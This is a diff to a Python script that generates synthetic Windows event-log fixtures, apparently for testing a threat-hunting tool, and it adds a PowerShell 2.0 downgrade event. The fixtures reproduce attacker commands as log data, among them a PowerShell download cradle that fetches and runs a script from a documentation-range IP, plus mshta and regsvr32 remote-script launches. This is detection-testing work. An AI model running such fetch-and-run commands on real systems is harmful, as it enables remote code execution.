@@ -15,6 +15,7 @@
 #        starts; 09:12 another (7045, %COMSPEC% /c mshta http...);
 #  09:15 schtasks registers a task (4698, ClientProcessId) whose action,
 #        regsvr32 /i:http, the Schedule service starts at 09:20;
+#  09:35 Windows PowerShell's 2.0 engine starts (400): a downgrade;
 #  09:25 a WMI subscription (T1546.003): a filter on
 #        __InstanceModificationEvent (Sysmon 19), a CommandLineEventConsumer
 #        running regsvr32 /i:http (20), their binding (21) and
@@ -236,9 +237,9 @@ DETAILS = ('\\tNewEngineState=Available\\r\\n\\tPreviousEngineState=None'
 write('wks03-windows-powershell.spec', '\n'.join([
     '# wks03-windows-powershell.spec -- Windows PowerShell of WKS03: the\n'
     '# engine started for the cradle (400) and its pipeline (800), with\n'
-    '# unnamed Data elements as Windows writes them (evtxhunt has no model\n'
-    '# of them yet: the readers render a string array differently).\n'
-    '# Written by testdata/make-wks03.py.\n'
+    '# unnamed Data elements as Windows writes them; then the 2.0 engine\n'
+    '# started (400, no HostApplication, as PowerShell 2 logs it): a\n'
+    '# downgrade.  Written by testdata/make-wks03.py.\n'
     'output wks03/wks03-windows-powershell.evtx\n',
     'record', 'provider PowerShell', 'eventid 400', 'level 4', 'task 4',
     'keywords 0x80000000000000', 'qualifiers 0',
@@ -254,7 +255,16 @@ write('wks03-windows-powershell.spec', '\n'.join([
     '\\tHostApplication=' + PS_CMD.replace('\\', '\\\\') +
     '\\r\\n\\tCommandLine=IEX (New-Object Net.WebClient).DownloadString('
     '\'http://203.0.113.9/a.ps1\')',
-    'edata =CommandInvocation(Invoke-Expression): "Invoke-Expression"'])
+    'edata =CommandInvocation(Invoke-Expression): "Invoke-Expression"', '',
+    'record', 'eventid 400', 'level 4', 'task 4',
+    'keywords 0x80000000000000', 'qualifiers 0',
+    'time %sT09:35:00.1000000Z' % DAY, 'recordid 503', 'pid 5560',
+    'data =Available', 'data =None',
+    'edata =\\tNewEngineState=Available\\r\\n\\tPreviousEngineState=None'
+    '\\r\\n\\r\\n\\tSequenceNumber=9\\r\\n\\r\\n\\tHostName=ConsoleHost'
+    '\\r\\n\\tHostVersion=2.0\\r\\n\\tHostId=5cbb33bf-acf7-47cc-9242-'
+    '141cd0ba9f0c\\r\\n\\tEngineVersion=2.0\\r\\n\\tRunspaceId=\\r\\n'
+    '\\tCommandLine='])
     + '\n')
 
 # ---- Security: 4697 service, 4698 task ----
